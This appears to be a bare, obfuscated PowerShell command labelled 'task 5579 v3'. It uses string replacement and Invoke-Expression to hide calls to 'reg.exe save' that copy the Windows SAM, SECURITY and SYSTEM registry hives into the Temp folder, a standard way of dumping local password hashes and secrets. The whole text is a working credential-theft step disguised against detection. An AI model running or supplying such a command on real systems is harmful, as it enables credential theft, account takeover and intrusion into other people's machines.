Invoke-Expression -Command 'iex ((''# task 5579 v3
rexx~4.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
rexx~4.exe save HQVQ61KLM\SECURITY C:\WindowQVQ61s\Temp\sec.hiv /y
rexx~4QVQ61.exe save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
'' -replace ''QVQ61'','''').Replace(''xx~4'',''g''))'